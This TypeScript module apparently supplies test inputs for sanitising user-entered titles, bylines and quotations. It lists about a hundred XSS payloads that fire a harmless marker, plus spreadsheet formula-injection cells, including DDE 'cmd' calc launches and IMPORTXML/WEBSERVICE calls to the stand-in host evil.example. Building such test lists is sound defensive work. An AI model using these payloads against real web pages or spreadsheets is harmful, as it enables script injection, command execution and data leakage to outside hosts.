/** Markup that runs where it is taken for markup: each calls `ran()`. */
const MARKUP = [
  "<script>ran()</script>",
  "<script src=data:text/javascript,ran()></script>",
  "<ScRiPt>ran()</sCrIpT>",
  "<script\t>ran()</script\t>",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "<img src=x onerror=ran()>",
  "<img/src=x/onerror=ran()>",
  "<IMG SRC=x ONERROR=ran()>",
  "<img src=x onerror='ran()' <",
  "<img src='x' onerror=&#114;an()>",
  "<svg onload=ran()>",
  "<svg/onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=ran()></style></svg>",
  "<math><mtext></p><img src=x onerror=ran()></math>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<iframe src=javascript:parent.ran()></iframe>",
  "<object data=javascript:ran()></object>",
  "<embed src=javascript:ran()>",
  "<body onload=ran()>",
  "<video><source onerror=ran()></video>",
  "<audio src=x onerror=ran()></audio>",
  "<input autofocus onfocus=ran()>",
  "<select autofocus onfocus=ran()></select>",
  "<textarea autofocus onfocus=ran()></textarea>",
  "<details open ontoggle=ran()>",
  "<marquee onstart=ran()>",
  "<style>@import 'data:text/css,';</style><img src=x onerror=ran()>",
  "<link rel=stylesheet href=data:, onload=ran()>",
  "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
  "<base href=javascript:ran()//>",
  "<form action=javascript:ran()><button autofocus>x</button></form>",
  "<a href=javascript:ran()>x</a>",
  "<template><script>ran()</script></template><img src=x onerror=ran()>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
  "<!--><img src=x onerror=ran()>-->",
  "<![CDATA[<img src=x onerror=ran()>]]>",
  "<?xml version='1.0'?><img src=x onerror=ran()>",
  "&lt;img src=x onerror=ran()&gt;",
];

/** What closes the place that a text may stand in. */
const WAYS_OUT = ["", `"'></title></textarea></style></script></blockquote>]]>`];

/** Cells that spreadsheets run as formulas. */
const FORMULAS = [
  ...["=ran()", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")'],
  ...["\t=1+1", "=1+1;=1+1", '"=1+1', '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE('http://evil.example')"],
  ...["+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd", "=-1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"],
];

/** A hundred texts that somebody may put into a title, a byline, a quotation or the name of a source. */
export const payloads: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => MARKUP.map((markup) => `${out}${markup}`)),
  ...FORMULAS,
];
